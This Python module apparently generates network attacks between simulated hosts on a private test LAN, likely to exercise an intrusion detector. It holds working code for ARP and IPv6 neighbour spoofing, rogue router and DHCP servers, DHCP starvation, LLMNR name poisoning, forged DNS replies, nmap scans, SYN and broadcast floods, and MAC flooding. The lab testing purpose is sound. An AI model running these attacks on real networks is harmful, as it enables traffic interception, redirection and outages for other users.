# SPDX-License-Identifier: GPL-3.0-or-later
"""What goes wrong in a network, by the tools that people use for it, and by scripts of our own where none is packaged.

Each takes the Host that does it and the one it is done to, both on the LAN of live.py, makes everything ready, and returns a
function that begins. Forged frames are sent by scapy, which only Debian's own Python has.
"""
import subprocess

import talkers

PYTHON = "/usr/bin/python3"
ROUTER, ROUTER6 = "10.77.0.1", "fd77::1"
VICTIM, VICTIM_MAC = "10.77.0.10", "00:16:3e:00:00:10"
RADVD = """interface eth0 {{ AdvSendAdvert on; MinRtrAdvInterval 3; MaxRtrAdvInterval 4; AdvDefaultPreference {preference};
  prefix {prefix} {{ }}; }};
"""
FORGE = "import random, sys, time\nfrom scapy.all import *\nconf.verb = 0\nmac = get_if_hwaddr('eth0')\nprint('ready', flush=True)\nsys.stdin.read()\n"
# Answers every name it is asked for by LLMNR (RFC 4795) with its own address, as Responder does.
POISON = """
import socket, struct, sys
own = socket.inet_aton(sys.argv[1])
ear = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
ear.bind(("", 5355))
ear.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, struct.pack("4s4s", socket.inet_aton("224.0.0.252"), own))
print("ready", flush=True)
while True:
    question, asker = ear.recvfrom(512)
    name = question[12:question.index(b"\\0", 12) + 5]
    ear.sendto(question[:2] + struct.pack("!5H", 0x8000, 1, 1, 0, 0) + name + b"\\xc0\\x0c" +
               struct.pack("!HHIH", 1, 1, 30, 4) + own, asker)
"""
ASK_NAMES = """
import socket, struct, sys, time
asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asker.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(sys.argv[1]))
for name in sys.argv[2:]:
    asker.sendto(struct.pack("!6H", 7, 0, 1, 0, 0, 0) + bytes([len(name)]) + name.encode() + b"\\0\\0\\1\\0\\1", ("224.0.0.252", 5355))
    time.sleep(0.2)
"""
# A question of DNS from a port and with a number that the forger knows, as if it had read along.
ASK_DNS = """
import socket, struct, sys
asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asker.bind(("", int(sys.argv[2])))
asker.sendto(struct.pack("!6H", 4242, 0x100, 1, 0, 0, 0) + b"\\4bank\\4test\\0\\0\\1\\0\\1", (sys.argv[1], 53))
asker.settimeout(2)
asker.recv(512)
"""
LOGIN = """
import socket, sys, time
for _ in range(12):
    socket.create_connection((sys.argv[1], 22), 2).close()
    time.sleep(0.1)
"""
SERVE_LOGINS = """
import socket
door = socket.create_server(("", 22))
print("ready", flush=True)
while True:
    peer, _ = door.accept()
    peer.sendall(b"SSH-2.0-OpenSSH_9.2\\r\\n")
    peer.close()
"""
SHOUT = """
import socket, time
mouth = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
mouth.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
end = time.monotonic() + 4.5
while time.monotonic() < end:
    mouth.sendto(b"x" * 400, ("10.77.0.255", 9))
    time.sleep(0.0007)
"""


def start_ready(host, program, *arguments):
    """A script of ours, from the moment on when it says that it is ready."""
    process = host.start(PYTHON, "-c", program, *arguments, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    if process.stdout.readline().strip() != "ready":
        raise RuntimeError(f"the script did not begin: {program}")
    return process


def forge(host, program, *arguments):
    """Scapy takes seconds to load on a busy machine: it is loaded when this returns, and sends when the result is called."""
    process = start_ready(host, FORGE + program, *arguments)

    def begin():
        process.stdin.close()  # what it waits for

    return begin


def tool(host, *command):
    return lambda: host.run(*command, check=False)


def advertise_router(host, prefix, preference="medium"):
    path = talkers.write(f"{host.folder}/radvd.conf", RADVD.format(prefix=prefix, preference=preference))
    host.run("sysctl", "-qw", "net.ipv6.conf.all.forwarding=1")
    return host.start("radvd", "--nodaemon", "--config", path, "--pidfile", f"{host.folder}/radvd.pid", "--logmethod", "none")


def spoof_arp(attacker, _victim):
    return lambda: attacker.start("arpspoof", "-i", "eth0", "-t", VICTIM, ROUTER)


def spoof_neighbour(attacker, _victim):
    return forge(attacker, """
advert = IPv6(src=sys.argv[1], dst="ff02::1") / ICMPv6ND_NA(tgt=sys.argv[1], R=1, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=mac)
for _ in range(16):
    sendp(Ether(src=mac, dst="33:33:00:00:00:01") / advert, iface="eth0")
    time.sleep(0.5)
""", ROUTER6)


def serve_addresses_too(attacker, victim):
    """A second DHCP server; the victim asks for a lease, as any computer does, and does not take it."""

    def begin():
        talkers.serve_addresses(attacker, "10.77.0.200", "10.77.0.210")
        for _ in range(2):
            victim.run("udhcpc", "-i", "eth0", "-n", "-q", "-f", "-t", "2", "-T", "1", "-s", "/bin/true", check=False)

    return begin


def advertise_router_too(attacker, _victim):
    return lambda: advertise_router(attacker, "fd66::/64", preference="high")


def poison_names(attacker, victim):
    start_ready(attacker, POISON, attacker.run("hostname", "-I").stdout.split()[0])
    return tool(victim, PYTHON, "-c", ASK_NAMES, VICTIM, "fileserver", "printsrv", "intranet", "backup")


def forge_answers(attacker, victim):
    """It has read the question, says the story: port and number are those that it asks with. The router answers, too."""
    send = forge(attacker, """
answer = IP(src="10.77.0.1", dst=sys.argv[1]) / UDP(sport=53, dport=45353)
answer /= DNS(id=4242, qr=1, aa=1, qd=DNSQR(qname="bank.test"), an=DNSRR(rrname="bank.test", rdata="198.51.100.66"))
for _ in range(60):
    sendp(Ether(src=mac, dst=sys.argv[2]) / answer, iface="eth0")
    time.sleep(0.05)
""", VICTIM, VICTIM_MAC)

    def begin():
        send()
        victim.run(PYTHON, "-c", ASK_DNS, ROUTER, "45353")

    return begin


def search_by_arp(attacker, _victim):
    return tool(attacker, "arp-scan", "--interface=eth0", "--localnet", "--retry=1")


def scan_ports(attacker, _victim):
    return tool(attacker, "nmap", "-n", "-Pn", "-sS", "-p1-200", VICTIM)


def scan_in_disguise(attacker, _victim):
    return tool(attacker, "nmap", "-n", "-Pn", "-sX", "-p1-60", VICTIM)


def scan_udp(attacker, _victim):
    return tool(attacker, "nmap", "-n", "-Pn", "-sU", "-p100-160", "--max-retries", "0", "--host-timeout", "4s", VICTIM)


def flood(attacker, _victim):
    return tool(attacker, "hping3", "-q", "-S", "-p", "80", "-i", "u1000", "-c", "3500", VICTIM)


def shout(attacker, _victim):
    """As a loop of cables does: the same broadcast again and again."""
    return tool(attacker, PYTHON, "-c", SHOUT)


def guess_passwords(attacker, victim):
    start_ready(victim, SERVE_LOGINS)
    return tool(attacker, PYTHON, "-c", LOGIN, VICTIM)


def use_up_addresses(attacker, _victim):
    return forge(attacker, """
for number in range(60):
    ask = BOOTP(chaddr=bytes([2]) + random.randbytes(5), xid=number) / DHCP(options=[("message-type", "discover"), "end"])
    to_all = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255")
    sendp(to_all / UDP(sport=68, dport=67) / ask, iface="eth0")
""")


def make_up_devices(attacker, _victim):
    return tool(attacker, "macof", "-i", "eth0", "-n", "3000")
